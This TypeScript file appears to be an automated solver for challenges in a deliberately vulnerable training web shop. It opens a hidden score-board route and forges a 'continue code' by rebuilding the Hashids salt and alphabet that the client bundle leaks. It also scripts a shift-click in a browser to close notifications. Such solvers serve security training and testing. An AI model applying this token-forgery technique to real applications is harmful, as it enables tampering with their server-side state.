import Hashids from 'hashids';
import type { Step } from './client.ts';

/**
 * Continue codes are Hashids of challenge ids under a fixed salt, minimum length and alphabet that
 * the client bundle gives away; a player builds a code for an id no challenge has.
 */
const continueCodes = new Hashids('this is my salt', 60, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ1234567890');

export const steps: Step[] = [
  {
    // the unlinked /score-board route of the client: opening it loads its padding image, which the shop watches
    solves: ['scoreBoardChallenge'],
    run: async (game) => {
      const { text } = await game.ok('/score-board');
      const src = text.match(/\/assets\/public\/images\/padding\/1px\.png/)?.[0];
      if (!src) throw new Error('no padding image on the score board');
      await game.ok(src);
    },
  },
  {
    solves: ['continueCodeChallenge'],
    run: async (game) => {
      await game.ok(`/rest/continue-code/apply/${continueCodes.encode([999])}`, { method: 'PUT' });
    },
  },
  {
    // a browser action: shift-click on one solved-challenge notification closes them all, and the
    // page reports what it closed. The notifications of the two solves above are still pending
    // (no page has confirmed them yet), so a page opened now shows both.
    solves: ['closeNotificationsChallenge'],
    run: async (game) => {
      const { context, page } = await game.page();
      try {
        await page.goto(`${game.url}/score-board`);
        const toasts = page.locator('.challenge-solved-toast');
        await page.waitForFunction(() => document.querySelectorAll('.challenge-solved-toast').length > 1);
        await toasts
          .first()
          .locator('#closeButton')
          .click({ modifiers: ['Shift'] });
        // the solve's own notification coming back proves the report arrived
        await page.locator('.challenge-solved-toast', { hasText: 'Mass Dispel' }).waitFor();
      } finally {
        await context.close();
      }
    },
  },
];
